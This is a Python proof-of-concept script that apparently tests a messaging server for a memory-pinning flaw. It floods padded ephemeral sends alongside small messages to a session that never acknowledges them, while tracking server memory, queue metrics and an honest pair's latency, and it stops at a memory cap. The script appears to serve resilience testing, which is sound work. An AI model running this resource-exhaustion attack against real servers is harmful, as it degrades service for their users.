"""Chunk pinning: a retained (unacked) small payload keeps its whole read allocation alive.
Attacker A sends, in a loop, [ephemeral Send to a user with no session, PAD bytes payload][Send to V, SMALL bytes].
V (attacker's own session) reads everything, answers pings, never acks.
usage: pin_chunks.py TCP PID HTTP N PAD SMALL [RSS_CAP_MIB]"""
import sys, os, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
tcp, pid, http = sys.argv[1], int(sys.argv[2]), sys.argv[3]
N, PAD, SMALL = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
CAP = int(sys.argv[7]) if len(sys.argv) > 7 else 1800
M = ("sessions","requeue_bytes","unacked_messages","unacked_bytes","pending_bytes","slow_consumer_closes_total")
def st(tag): status(tag, pid, http, M)
Conn(tcp, "nobody").close()
v = Conn(tcp, "vic", auto_ack=False)
a = Conn(tcp, "att")
got = [0]; stop = False
def rd():
    while not stop:
        try:
            r = v.recv(0.5)
        except Exception as e:
            print("victim reader:", e); return
        if r and r[0] == 'deliver': got[0] += 1
if not os.environ.get("NOREAD"): threading.Thread(target=rd, daemon=True).start()
# an honest pair measuring latency
honest = HonestPair(tcp); hlat = honest.dm_ms; lat = honest.lat
st("start"); print("honest dm ms", round(hlat(),2)); print("shards: vic", v.login_result.get(6), "att", a.login_result.get(6))
pad = os.urandom(PAD); small = os.urandom(SMALL)
blk = frame(2, {2: "nobody", 4: pad, 7: True}) + frame(2, {2: "vic", 4: small})
t0 = time.time()
for i in range(N):
    a.raw(blk)
    if i % 2000 == 1999:
        st(f"{i+1} sent, victim got {got[0]}, {time.time()-t0:.1f}s, honest dm {hlat():.1f}ms")
        if rss(pid)/1024 > CAP: print("RSS cap reached, stopping"); break
time.sleep(2); st(f"end victim got {got[0]}")
print("honest dm ms", round(hlat(),2))
stop = True; time.sleep(0.6)
v.s.close(); time.sleep(0.5); st("victim closed (unacked requeued)")
